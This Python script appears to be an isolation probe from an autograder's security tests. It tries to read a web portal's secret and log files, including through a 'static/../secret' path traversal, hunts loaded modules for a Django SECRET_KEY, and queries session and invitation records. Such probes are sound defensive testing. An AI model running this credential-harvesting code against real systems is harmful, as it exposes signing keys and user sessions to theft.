# Attack: looks for a session, a one-time link or the secret that signs cookies of the portal.
# Kind: reading

import os
import pathlib
import sys

homes = {HOST["portal"], os.environ.get("AUTOGRADER_PORTAL_DATA", ""), "portal-data"} - {""}
for home in homes:
    for name in ("secret", "log", "static/../secret"):
        try:
            through(f"read {home}/{name}: {pathlib.Path(home, name).read_text()[:200]}")
        except OSError as error:
            print(error)
for name, module in list(sys.modules.items()):
    if name.partition(".")[0] in {"portal", "procrastinate", "psycopg"}:
        through(f"{name} is loaded")
    key = getattr(module, "SECRET_KEY", None)
    if isinstance(key, str) and key:
        through(f"{name} holds a secret: {key}")
try:
    import django

    os.environ.setdefault("DJANGO_SETTINGS_MODULE", "portal.settings")
    django.setup()
    from django.contrib.sessions.models import Session
    from portal.models import Invitation

    through(f"found {Session.objects.count()} sessions, {Invitation.objects.count()} links")
except Exception as error:
    print(type(error).__name__, error)
